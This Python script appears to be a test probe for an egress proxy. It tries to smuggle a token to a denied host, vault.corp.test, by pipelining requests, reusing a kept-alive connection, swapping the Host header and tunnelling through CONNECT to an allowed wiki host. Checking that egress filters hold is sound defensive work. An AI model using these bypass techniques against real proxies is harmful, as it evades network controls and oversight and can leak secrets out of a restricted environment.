# egress_smuggle: reaches the denied vault.corp.test behind an allowed
# request to wiki.corp.test on one connection to the egress proxy:
# pipelined, one after the other on a kept-alive connection, inside an
# allowed tunnel, and with the two names in the request line and the Host
# header swapped; straight to the vault's address when there is no proxy
# (argv: token, port, the vault's address).
import os, socket, sys, urllib.parse

token, port, addr = sys.argv[1], sys.argv[2], sys.argv[3]
proxy = urllib.parse.urlsplit(os.environ.get("HTTP_PROXY", ""))
wiki, vault = "wiki.corp.test:" + port, "vault.corp.test:" + port


def req(target, host, path):
    return ("GET http://%s%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, path, host)).encode()


def session(name, *steps):
    # One connection; each step is bytes to send, then read what comes.
    try:
        s = socket.create_connection((proxy.hostname, proxy.port), timeout=3)
        s.settimeout(1)
        got = b""
        for b in steps:
            s.sendall(b)
            try:
                got += s.recv(65536)
            except socket.timeout:
                pass
        s.close()
        print(name, [l.decode() for l in got.split(b"\r\n") if l.startswith(b"HTTP/")])
    except OSError as e:
        print(name, "failed:", e)


if proxy.hostname:
    session("pipelined", req(wiki, wiki, "/a") + req(vault, vault, "/smuggled-pipelined?" + token))
    session("kept alive", req(wiki, wiki, "/b"), req(vault, vault, "/smuggled-kept-alive?" + token))
    session("Host swapped", req(vault, wiki, "/smuggled-host?" + token))
    session("in a tunnel", ("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (wiki, wiki)).encode(),
            req(vault, vault, "/smuggled-tunnel?" + token))

try:
    s = socket.create_connection((addr, int(port)), timeout=2)
    s.sendall(("GET /direct?%s HTTP/1.0\r\n\r\n" % token).encode())
    s.close()
    print("direct: sent")
except OSError as e:
    print("direct failed: errno", e.errno)
